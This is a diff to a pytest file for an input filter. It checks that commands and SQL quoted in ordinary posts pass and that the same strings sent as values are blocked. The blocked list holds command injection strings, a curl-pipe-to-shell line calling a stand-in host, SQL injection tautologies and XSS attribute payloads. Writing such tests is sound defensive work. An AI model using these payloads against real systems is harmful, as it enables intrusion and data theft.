@@ -1530,6 +1530,46 @@ NEWLINE_STACKED = [
 ]
 
 
+# session 14: a command shown in a sentence (a Markdown code span, a $( ) substitution after
+# a word or an assignment), a file a sentence names, SQL's empty literal and quoted
+# qualified names, a handler calling the page's own function in prose about markup: asked or
+# allowed, not blocked; the same commands as values still block
+SHELL_AND_SQL_IN_POSTS = [
+    "Run `kill $(lsof -t -i:8000)` to free the port.",
+    "Try `curl -s https://api.example.com/health | jq .status` to check the API.",
+    "Set DATABASE_URL=$(heroku config:get DATABASE_URL -a myapp) before running the tests.",
+    "cat /etc/os-release says Debian 12.",
+    "Use COALESCE(middle_name, '') || ' ' || last_name to build the full name.",
+    'I think the ORM generated ... WHERE "users"."id" = 1 LIMIT 1 -- is that expected?',
+    "<p>I use window.addEventListener('load', init) instead of onload=\"init()\" now.</p>",
+]
+SHELL_AND_SQL_VALUES = [
+    "127.0.0.1 `id`",
+    "127.0.0.1 `cat /etc/passwd`",
+    "`id`",
+    "hello $(whoami)",
+    "$(curl http://evil.example/x.sh|sh)",
+    "cat /etc/passwd | grep root",
+    "cat /etc/passwd",
+    "x'') or 1=1--",
+    "'') or ('1'='1",
+    "x onfocus=alert(1) autofocus",
+    '" onmouseover="init()',
+]
+
+
+@pytest.mark.parametrize("text", SHELL_AND_SQL_IN_POSTS)
+def test_commands_and_sql_shown_in_a_post_are_not_blocked(text):
+    found = inspect(as_json(text), "application/json", pi_model=False)
+    assert found.verdict != "block", found
+
+
+@pytest.mark.parametrize("text", SHELL_AND_SQL_VALUES)
+def test_the_same_commands_and_sql_as_values_block(text):
+    found = inspect(as_json(text), "application/json", pi_model=False)
+    assert found.verdict == "block", found
+
+
 @pytest.mark.parametrize("text", MULTI_LINE_CODE)
 def test_code_and_sql_scripts_over_several_lines_are_not_blocked(text):
     for body in (as_json("I have this code:\n\n" + text + "\n\nWhat am I doing wrong?"), text.encode()):
